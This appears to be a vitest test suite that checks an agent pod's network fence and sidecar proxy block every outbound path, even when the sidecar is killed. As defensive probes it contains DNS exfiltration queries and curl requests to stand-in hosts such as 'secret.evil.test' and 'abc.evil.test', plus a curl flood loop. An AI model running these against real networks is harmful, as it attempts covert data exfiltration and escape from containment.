// Catalogue N, D: whatever the agent or a root process of the pod sends past the capture, the wire stays silent.
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { allow } from '../netns/snapshot-parts.ts';
import { type DataPath, startDataPath } from './data-path.ts';
import { askOutsideResolver, tryEverything } from './ways-out.ts';

const v4 = '198.51.100.77';
const v6 = '2001:db8:77::1';

let path: DataPath;
beforeAll(async () => {
  path = await startDataPath('nl');
});
afterAll(async () => path?.close());
beforeEach(async () => path.reset());

test('positive control: without fence and sidecar the same program gets every kind of packet out', async () => {
  const { stdout } = await path.openPod.run(tryEverything(v4, v6), { timeoutMs: 30_000 });
  expect(stdout).toMatch(/^tcp answered$/m);
  for (const [protocol, destination] of [
    ['udp', v4],
    ['udp', v6],
    ['udplite', v4],
    ['udplite', v6],
    ['icmp', v4],
    ['icmpv6', v6],
    ['tcp', v4],
    ['tcp', v6],
  ])
    await path.capture.expectSome(
      `${protocol} to ${destination}`,
      packet => path.openPod.sent(packet) && packet.protocol === protocol && packet.destination === destination,
    );
  await path.openPod.run(askOutsideResolver('8.8.8.8', 'secret.evil.test'));
  expect(await path.outside.countDnsQueries('secret.evil.test')).toBe(2);
});

describe.each(['agent', 'root'] as const)('as %s', user => {
  test('N02, N03, N04, N06, N07, N12, N13, N15, N18, N45 TCP, UDP, ICMP, UDP-Lite, MPTCP, multicast and IPv6: no packet leaves', async () => {
    const { stdout } = await path.sidecar.runAgent(tryEverything(v4, v6), { user, timeoutMs: 30_000 });
    await path.capture.expectNone('anything from the pod', path.sent);
    expect(stdout).not.toMatch(/answered/);
    expect(stdout.trim().split('\n')).toHaveLength(14);
    expect(await path.outside.connections(({ localAddress }) => localAddress === v4 || localAddress === v6)).toEqual(
      [],
    );
  });

  test('N49, D04 queries to an outside resolver are answered here or not at all', async () => {
    const { stdout } = await path.sidecar.runAgent(askOutsideResolver('8.8.8.8', 'secret.evil.test'), { user });
    // TXT is refused by our own server, over both transports.
    expect(stdout).toBe('rcode 5\nrcode 5\n');
    await path.capture.expectNone('anything from the pod', path.sent);
    expect(await path.outside.dnsQueries()).toEqual([]);
  });

  test('D01 an unlisted name is not asked for outside, however it is used', async () => {
    for (const url of ['https://abc.evil.test/', 'http://abc.evil.test/', 'https://abc.evil.test:8443/'])
      await path.sidecar.runAgent(['curl', '-sS', '-m', '8', url], { user });
    expect(await path.outside.dnsQueries()).toEqual([]);
    await path.capture.expectNone('anything from the pod', path.sent);
  });
});

describe('the sidecar killed', () => {
  const get = ['curl', '-sS', '-m', '5', 'https://allowed.test/'];
  beforeEach(async () => {
    await path.hub.apply({ policy: { rules: [allow(['allowed.test'])] } });
    expect(await path.sidecar.runAgent(get)).toMatchObject({ exitCode: 0 });
    // Its connection must be over, or its kernel says goodbye for the sidecar that is killed.
    await path.outside.waitForConnection(({ ended }) => ended !== undefined);
    await path.forgetPackets();
  });

  test('the whole container: refused in under three seconds, no packet leaves, and it works again after the restart', async () => {
    await path.sidecar.stop('SIGKILL');
    const during = await path.sidecar.runAgent(['curl', '-sS', '-m', '5', `https://${v4}/`]);
    expect(during.exitCode).toBe(7);
    expect(during.ms).toBeLessThan(3000);
    const { stdout } = await path.sidecar.runAgent(tryEverything(v4, v6), { user: 'root', timeoutMs: 30_000 });
    expect(stdout).not.toMatch(/answered/);
    await path.capture.expectNone('anything from the pod', path.sent);
    await path.sidecar.restart();
    expect(await path.sidecar.runAgent(get)).toMatchObject({ exitCode: 0 });
  });

  test('its node process, again and again while the agent sends: nothing leaves, and each time it comes back', async () => {
    const flood = `for i in $(seq 1 200); do curl -sk -m 1 -o /dev/null https://${v4}/; done`;
    const flooding = path.pod.start(['bash', '-c', flood], { timeoutMs: 60_000 });
    for (let round = 0; round < 5; round++) {
      await path.sidecar.killProxy();
      await path.sidecar.waitReady();
    }
    await flooding.stop('SIGKILL');
    await path.capture.expectNone('anything to the flooded address', ({ destination }) => destination === v4);
    const after = await path.sidecar.runAgent(get);
    expect(after, `the sidecar's log: ${path.sidecar.log.slice(-3000)}`).toMatchObject({ exitCode: 0 });
  });
});
